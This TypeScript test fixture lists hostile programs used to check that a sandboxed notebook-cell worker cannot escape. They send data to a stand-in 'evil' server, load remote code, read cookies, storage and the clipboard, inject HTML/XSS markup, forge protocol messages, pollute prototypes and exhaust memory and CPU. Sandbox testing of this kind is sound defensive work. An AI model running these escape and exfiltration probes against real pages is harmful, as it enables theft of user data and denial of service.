/**
 * What hostile code in a cell may try. Each attack is a program; it prints `GOT …` when it has reached what it must
 * not, and whatever else it does, page, listening server and the next cell must not notice.
 *
 * The small engine of these tests has kept the platform's own functions (`platform`), so that what stops the attacks
 * is the frame's policy and the borders, and not the sentences that the host puts in their place.
 */

export interface Attack {
  readonly name: string;
  readonly source: string;
  /** Ends by the time limit rather than by itself; so it gets little time. */
  readonly endless?: true;
}

/** @param evil the origin of a server that counts what reaches it; @param site the page's own origin */
export function attacks(evil: string, site: string): Attack[] {
  return [...reaching(evil, site), ...tampering(evil), ...exhausting];
}

/** An expression that sends something, or gives something that a cell must not see. */
function reach(name: string, expression: string): Attack {
  const source = `import { platform } from '#engine';
try { const got = await (async () => ${expression})(); if (got !== undefined) console.log('GOT ' + String(got)); }
catch (error) { void error; }`;
  return { name, source };
}

/** A page's message from elsewhere, or nothing after a while. */
const answered = (begin: string) =>
  `new Promise((got) => { const within = (f) => (...a) => got(f(...a)); setTimeout(got, 200); ${begin} })`;

function reaching(evil: string, site: string): Attack[] {
  const ws = evil.replace('http', 'ws');
  const network: Record<string, string> = {
    fetch: `(await platform.fetch('${evil}/fetch', { mode: 'no-cors' })).type`,
    'fetch with keepalive': `(await platform.fetch('${evil}/keepalive', { mode: 'no-cors', method: 'POST', keepalive: true })).type`,
    'fetch of a body': `(await platform.fetch('${evil}/post', { mode: 'no-cors', method: 'POST', body: 'secret' })).type`,
    'fetch of the site': `(await platform.fetch('${site}/', { credentials: 'include' })).status`,
    'fetch of data': `(await platform.fetch('data:text/plain,x')).status`,
    'a Request object': `(await platform.fetch(new Request('${evil}/request', { mode: 'no-cors' }))).type`,
    fetchLater: `fetchLater('${evil}/later', { activateAfter: 0 }).activated`,
    XMLHttpRequest: `new Promise((sent, failed) => { const x = new platform.XMLHttpRequest(); x.onload = () => sent('sent'); x.onerror = failed; x.open('GET', '${evil}/xhr'); x.send(); })`,
    'synchronous XMLHttpRequest': `(() => { const x = new platform.XMLHttpRequest(); x.open('GET', '${evil}/sync', false); x.send(); return x.status; })()`,
    WebSocket: `new Promise((open, failed) => { const w = new platform.WebSocket('${ws}/ws'); w.onopen = () => open('open'); w.onerror = failed; })`,
    WebSocketStream: `(await new WebSocketStream('${ws}/wss').opened).protocol`,
    EventSource: `new Promise((open, failed) => { const e = new platform.EventSource('${evil}/es'); e.onopen = () => open('open'); e.onerror = failed; })`,
    WebTransport: `await new WebTransport('${evil.replace('http:', 'https:')}/wt').ready`,
    beacon: `navigator.sendBeacon('${evil}/beacon', 'x') || undefined`,
    WebRTC: `new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] }).signalingState`,
    'dynamic import': `Object.keys(await import('${evil}/import.js')).length`,
    'import of data': `(await import('data:text/javascript,export default 1')).default`,
    'import of the site': `Object.keys(await import('${site}/page.js')).length`,
    importScripts: `platform.importScripts('${evil}/scripts.js') ?? 'loaded'`,
    'worker from a URL': `new Promise((run, failed) => { const w = new platform.Worker('${evil}/worker.js'); w.onmessage = () => run('ran'); w.onerror = failed; })`,
    'worker that fetches': `new Promise((sent, failed) => { const w = new platform.Worker(URL.createObjectURL(new Blob(["fetch('${evil}/nested', { mode: 'no-cors' }).then(() => postMessage('sent'), () => { throw 0 })"]))); w.onmessage = () => sent('sent'); w.onerror = failed; })`,
    'worker in a worker that fetches': `new Promise((sent, failed) => { const inner = "fetch('${evil}/nested2', { mode: 'no-cors' }).then(() => postMessage('sent'), () => postMessage('kept'))"; const outer = "const w = new Worker(URL.createObjectURL(new Blob([" + JSON.stringify(inner) + "]))); w.onmessage = (e) => postMessage(e.data); w.onerror = () => postMessage('kept')"; const w = new platform.Worker(URL.createObjectURL(new Blob([outer]))); w.onmessage = (e) => e.data === 'sent' ? sent('sent') : failed(); w.onerror = failed; })`,
    'shared worker': `new SharedWorker('${evil}/shared.js').port.start() ?? 'started'`,
    'service worker': `(await navigator.serviceWorker.register('${site}/page.js')).scope`,
    'a font': `(await new FontFace('x', 'url(${evil}/font.woff2)').load()).status`,
    'a font by CSS': `(self.fonts.add(new FontFace('y', 'url(${evil}/font2.woff2)')), (await self.fonts.load('1em y')).length || undefined)`,
    'WebAssembly from the network': `await WebAssembly.compileStreaming(platform.fetch('${evil}/x.wasm'))`,
    'a cache that fetches': `await (await caches.open('x')).add('${evil}/cached')`,
    'a background fetch': `(await self.registration.backgroundFetch.fetch('x', ['${evil}/background'])).id`,
    'an image': `(() => { new Image().src = '${evil}/image.png'; return 'set'; })()`,
    'an image by a bitmap': `(await createImageBitmap(await (await platform.fetch('${evil}/bitmap.png', { mode: 'no-cors' })).blob())).width`,
    'a source map': `(0, eval)('1 //# sourceMappingURL=${evil}/map')`,
  };
  const storage: Record<string, string> = {
    IndexedDB: `new Promise((open, failed) => { const r = indexedDB.open('one-pod'); r.onsuccess = () => open('open'); r.onerror = failed; })`,
    'names of databases': `(await indexedDB.databases()).length || undefined`,
    caches: `(await caches.keys()).find((name) => name === 'secret')`,
    'files of the site': `(await navigator.storage.getDirectory()).kind`,
    'a storage bucket': `(await navigator.storageBuckets.open('x')).name`,
    'local storage': `localStorage.getItem('secret')`,
    'session storage': `sessionStorage.length`,
    cookies: `(await cookieStore.get('secret')).value`,
    'document cookies': `document.cookie`,
    locks: answered(
      `navigator.locks.request('one-pod-test', { ifAvailable: true }, within((lock) => lock === null ? 'the page\\'s lock' : undefined));`,
    ),
    'a broadcast to the page': `(new BroadcastChannel('one-pod-test').postMessage('from a cell'), undefined)`,
    'broadcasts of the page': answered(
      `new BroadcastChannel('one-pod-test').onmessage = within((e) => e.data);`,
    ),
  };
  const around: Record<string, string> = {
    'the page': `parent.document.title`,
    'the top window': `top.location.href`,
    'an opener': `opener.name`,
    'the frame around the worker': `window.frameElement.title`,
    'other frames': `frames.length`,
    navigation: `(location.href = '${evil}/navigated', location.reload(), 'navigated')`,
    'navigation of the page': `(top.location = '${evil}/top', 'navigated')`,
    'a popup': `open('${evil}/popup').closed`,
    'windows of a service worker': `(await clients.openWindow('${evil}/clients')).url`,
    notification: `new Promise((shown, failed) => { const n = new Notification('x'); n.onshow = () => shown('shown'); n.onerror = failed; })`,
    'a permission': `(await Notification.requestPermission())`,
    'the clipboard': `await navigator.clipboard.readText()`,
    eval: `(0, eval)('1')`,
    'Function as eval': `new Function('return 1')()`,
    'a timer with text': `${answered(`self.leaked = within(() => 'ran'); (0, setTimeout.bind(self))('leaked()', 0);`)}`,
    'WebAssembly that was compiled here': `(await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).module`,
    'the page through a channel': answered(
      `const { port1, port2 } = new MessageChannel(); port1.onmessage = within((e) => e.data); Object.getPrototypeOf(Object.getPrototypeOf(self)).postMessage?.call(self, { type: 'ready' }, [port2]);`,
    ),
  };
  return [network, storage, around].flatMap((group) =>
    Object.entries(group).map(([name, expression]) => reach(name, expression)),
  );
}

/** The worker's own way out, which the host takes away from a cell; hostile code digs for it. */
const post = `const post = (() => {
  for (let at = self; at; at = Object.getPrototypeOf(at)) {
    const own = Object.getOwnPropertyDescriptor(at, 'postMessage');
    if (typeof own?.value === 'function') return own.value.bind(self);
  }
  return () => {};
})();`;

const markup = `<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=2</script><iframe srcdoc="<script>parent.pwned=3</script>"></iframe>`;

function tampering(evil: string): Attack[] {
  const html = JSON.stringify(`"'>${markup}<img src="${evil}/shown">`);
  const forged = (name: string, ...messages: string[]): Attack => ({
    name,
    source: `${post}\nconst html = ${html};\nfor (const message of [${messages.join(', ')}]) try { post(message); } catch {}\nconsole.log('went on');`,
  });
  const message = (inner: string) => `{ type: 'message', message: ${inner} }`;
  return [
    {
      name: 'output that is HTML',
      source: `const html = ${html};\nconsole.log(html); console.error(html); console.table?.([html]); console.log({ [html]: html }, [html], new Error(html), Symbol(html));`,
    },
    {
      name: 'an error that is HTML',
      source: `const html = ${html};\nconst error = new Error(html); error.name = html; error.stack = html + ':1:1'; throw error;`,
    },
    { name: 'a thrown string of HTML', source: `throw ${html};` },
    { name: 'a rejected promise of HTML', source: `Promise.reject(${html});` },
    {
      name: 'views that are HTML',
      source: `import { host } from '#engine';
const html = ${html};
for (const view of [
  { kind: 'text', text: html }, { kind: html, text: html }, { kind: 'object', title: html, value: { [html]: html } },
  { kind: 'table', title: html, caption: html, columns: [{ title: html, align: html, note: html }], rows: [[{ text: html, tone: html, detail: html }]] },
  { kind: 'diff', title: html, before: { a: html }, after: { [html]: 1 } },
  { kind: 'chain', title: html, before: {}, after: { html }, links: [{ name: html, phase: html, outcome: html, note: html, patch: [{ op: html, path: html }] }] },
  { kind: 'trace', title: html, events: [{ id: html, at: html, step: html, actor: html, kind: html, data: { html }, basis: html }] },
  { kind: 'table', columns: html, rows: html }, { kind: 'table' }, { kind: 'chain' }, { kind: 'trace', events: [null, 1] }, { kind: 'toString' }, { kind: '__proto__' },
]) host.output(view, html);`,
    },
    {
      name: 'long tables that are HTML',
      source: `import { host } from '#engine';
const html = ${html};
host.output({ kind: 'table', columns: [{ title: html, align: html }], rows: Array.from({ length: 500 }, () => [{ text: html, tone: html }]) }, 'x');`,
    },
    {
      name: 'the door with nonsense',
      source: `import { host } from '#engine';
for (const value of [undefined, null, 0, '', [], () => {}, Symbol(), 1n, new Proxy({}, { get() { throw 1; }, ownKeys() { throw 2; } })]) {
  try { host.output(value, value); } catch {}
  try { host.clusterCreated(value); } catch {}
  try { host.entering(value); } catch {}
  try { host.readerError(value, value); } catch {}
}`,
    },
    {
      name: 'names of hooks that are HTML',
      source: `import { host } from '#engine';\nhost.entering(${html}); host.readerError(${html}, new Error(${html}));`,
    },
    {
      name: 'prototypes of what the output passes',
      source: `const html = ${html};
const evil = () => html;
for (const [of, names] of [[Array.prototype, ['map', 'push', 'join', 'slice', 'flatMap', 'filter']], [String.prototype, ['slice', 'replace', 'split']], [Map.prototype, ['get', 'set']], [Promise.prototype, ['then']], [Function.prototype, ['call', 'apply', 'bind']]])
  for (const name of names) of[name] = evil;
JSON.stringify = evil; Object.prototype.toJSON = evil; Object.keys = evil; Array.isArray = evil;
console.log(html);`,
    },
    {
      name: 'setters on the prototype of all objects',
      source: `for (const name of ['type', 'message', 'output', 'kind', 'text', 'run', 'json', 'events', 'exitCode'])
  Object.defineProperty(Object.prototype, name, { get: () => ${html}, set() {}, configurable: true });
console.log('x');`,
    },
    {
      name: 'the console replaced',
      source: `const { log } = console; console.log = (...values) => { for (let i = 0; i < 10; i++) log(...values, ${html}); }; console.log('x');`,
    },
    {
      name: 'other listeners of the worker',
      source: `self.addEventListener('message', (event) => { event.stopImmediatePropagation(); console.log('heard', event.data); }, { capture: true });
self.dispatchEvent(new MessageEvent('message', { data: { type: 'engine', url: '${evil}/engine.js' } }));
await null;`,
    },
    {
      name: 'a chunk from elsewhere',
      source: `${post}
for (const name of ['${evil}/chunk.js', '//${evil.slice(7)}/chunk2.js', '../../../secret', 'page.js', '__proto__', '', null, {}, ['x']]) try { post({ type: 'need', name }); } catch {}
await new Promise((later) => { const { port1, port2 } = new MessageChannel(); port1.onmessage = later; setTimeout?.(later, 100); port2.postMessage(1); }).catch(() => {});`,
    },
    {
      name: 'the loader of chunks',
      source: `try { console.log('GOT', Object.keys(await globalThis.onePodLoadChunk('${evil}/loaded.js'))); } catch {}`,
    },
    forged(
      'messages that are none',
      'undefined',
      'null',
      '0',
      "'x'",
      '[]',
      '{}',
      "{ type: 'nonsense' }",
      "{ type: 'message' }",
      message('null'),
      message('{}'),
      message("{ type: 'output' }"),
      message("{ type: 'output', output: null }"),
      message("{ type: 'output', output: { kind: 'view' } }"),
      message("{ type: 'output', output: { kind: 'error' } }"),
      message("{ type: 'trace' }"),
      message("{ type: 'command-result' }"),
    ),
    forged(
      'errors with places that are HTML',
      message(
        "{ type: 'output', output: { kind: 'error', error: { name: html, message: html, hint: html, line: html, column: html, file: html } } }",
      ),
      message("{ type: 'output', output: { kind: 'error', error: { name: 'SyntaxError', message: html } } }"),
      message("{ type: 'output', output: { kind: 'log', level: html, text: html } }"),
    ),
    forged(
      'events that are HTML',
      `{ type: 'trace', json: JSON.stringify({ type: 'trace', reset: true, events: [{ id: 1, at: html, step: html, actor: html, kind: html, data: { name: html }, basis: html, source: html }, null, 7] }) }`,
      "{ type: 'trace', json: 'no JSON' }",
      "{ type: 'trace', json: 'null' }",
      `{ type: 'trace', json: '{"type":"ended","exitCode":0}' }`,
      "{ type: 'trace' }",
    ),
    forged(
      'an end before the end, many times',
      message("{ type: 'ended', exitCode: 0 }"),
      message("{ type: 'ended', exitCode: html }"),
      message("{ type: 'ended', exitCode: 0 }"),
      "{ type: 'started' }",
      "{ type: 'ready' }",
      "{ type: 'broken', message: html }",
      "{ type: 'pong', activity: html }",
    ),
    forged(
      'answers to commands that nobody gave',
      ...[0, 1, 2, 3].map((id) =>
        message(
          `{ type: 'command-result', id: ${id}, result: { stdout: html, stderr: html, exitCode: html } }`,
        ),
      ),
      message("{ type: 'command-result', id: 1, result: null }"),
    ),
    forged(
      'messages to other runs',
      ...[0, 1, 2, 3, 4, 5].map((run) => `{ type: 'stopped', run: ${run}, activity: 'waiting' }`),
      "{ type: 'flooded', run: 1 }",
      "{ type: 'message', run: 1, message: { type: 'output', output: { kind: 'log', level: 'log', text: 'GOT into another run' } } }",
    ),
  ];
}

const exhausting: Attack[] = [
  { name: 'an endless loop', source: 'for (;;);', endless: true },
  { name: 'an endless asynchronous loop', source: 'for (;;) await null;', endless: true },
  {
    name: 'an endless chain of promises',
    source: 'const next = () => Promise.resolve().then(next); next(); await new Promise(() => {});',
    endless: true,
  },
  { name: 'a promise that never answers', source: 'await new Promise(() => {});', endless: true },
  {
    name: 'a regular expression that never answers',
    source: "/^(a+)+$/.test('a'.repeat(40) + '!');",
    endless: true,
  },
  { name: 'endless recursion', source: 'const deeper = () => deeper() + 1;\ndeeper();' },
  { name: 'a flood of text', source: "for (;;) console.log('x'.repeat(1_000));", endless: true },
  {
    name: 'a flood of messages',
    source: `${post}\nfor (;;) post({ type: 'message', message: { type: 'entering', name: 'x' } });`,
    endless: true,
  },
  {
    name: 'a flood of needs',
    source: `${post}\nfor (let i = 0; ; i++) post({ type: 'need', name: 'none-' + i });`,
    endless: true,
  },
  {
    name: 'a flood of hooks',
    source: "import { host } from '#engine';\nfor (let i = 0; ; i++) host.entering('hook ' + i);",
    endless: true,
  },
  {
    name: 'a flood of events',
    source:
      "import { host } from '#engine';\nfor (let i = 0; ; i++) host.clusterCreated({ trace: { events: [i], subscribe: () => () => {} }, outstanding: () => [] });",
    endless: true,
  },
  {
    name: 'a flood of errors',
    source:
      "import { host } from '#engine';\nfor (let i = 0; ; i++) host.readerError('hook', new Error('no ' + i));",
    endless: true,
  },
  {
    name: 'messages of many megabytes',
    source: `${post}\nconst text = 'x'.repeat(20_000_000);\nfor (let i = 0; i < 20; i++) post({ type: 'message', message: { type: 'entering', name: text } });`,
    endless: true,
  },
  { name: 'one line of many megabytes', source: "console.log('x'.repeat(50_000_000));" },
  {
    name: 'an object without an end',
    source:
      'const object = {}; object.itself = object; console.log(object); let deep = {}; for (let i = 0; i < 100_000; i++) deep = { deep }; console.log(deep);',
  },
  {
    name: 'memory in arrays',
    source: 'const kept = [];\nfor (;;) kept.push(new Array(100_000).fill(kept.length));',
    endless: true,
  },
  {
    name: 'memory in buffers',
    source:
      'const kept = [];\nfor (let i = 0; i < 300; i++) kept.push(new Uint8Array(1_000_000).fill(1));\nfor (;;);',
    endless: true,
  },
  { name: 'memory in one string', source: "let text = 'x';\nfor (;;) text += text;" },
  {
    name: 'a hundred workers',
    source:
      "import { platform } from '#engine';\nfor (let i = 0; i < 100; i++) new platform.Worker(URL.createObjectURL(new Blob(['for (;;);'])));\nfor (;;);",
    endless: true,
  },
  {
    name: 'timers without number',
    source: 'const tick = () => { queueMicrotask(tick); };\ntick();\nawait new Promise(() => {});',
    endless: true,
  },
];
